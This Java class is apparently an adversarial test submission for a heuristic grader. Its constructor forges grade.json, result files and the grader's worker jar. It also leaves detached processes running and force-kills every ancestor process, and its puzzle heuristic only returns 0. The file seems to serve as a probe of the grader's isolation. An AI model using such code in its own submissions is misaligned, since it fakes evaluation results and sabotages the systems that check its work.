package student;

import io.github.heuristicgrader.api.Heuristic;
import io.github.heuristicgrader.api.huarongdao.Board;
import java.io.File;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;

/**
 * Attacks the grade from its constructor, printing what each attack gave: writes grade.json and the grader's worker
 * jar, leaves a process running, starts a detached double fork that rewrites its own result file once the worker
 * has ended, and kills every ancestor it can see, Maven included. 0 everywhere otherwise, so admissible.
 */
public class VandalHeuristic implements Heuristic<Board> {

    /** Carries out the attacks. */
    public VandalHeuristic() throws Exception {
        Path classes = Path.of(VandalHeuristic.class.getProtectionDomain().getCodeSource().getLocation().toURI());
        write("grade.json", classes.getParent().resolve("grade").resolve("grade.json"));
        for (String entry : System.getProperty("java.class.path").split(File.pathSeparator)) {
            if (entry.endsWith("heuristic-grader-worker.jar")) {
                write("worker jar", Path.of(entry));
            }
        }
        new ProcessBuilder("setsid", "sleep", "300").start();
        // The shell's child is orphaned at once: it is no descendant of the worker by the time the worker ends.
        new ProcessBuilder("setsid", "sh", "-c", "(sleep 3; echo forged > result.bin; echo forged > late.txt) &")
                .start().waitFor();
        for (Optional<ProcessHandle> parent = ProcessHandle.current().parent(); parent.isPresent();
                parent = parent.get().parent()) {
            System.out.println("kill " + parent.get().pid() + ": " + parent.get().destroyForcibly());
        }
    }

    private static void write(String what, Path file) {
        try {
            Files.writeString(file, "forged");
            System.out.println(what + ": written");
        } catch (Exception e) {
            System.out.println(what + ": refused " + e);
        }
    }

    @Override
    public int estimate(Board board) {
        return 0;
    }
}
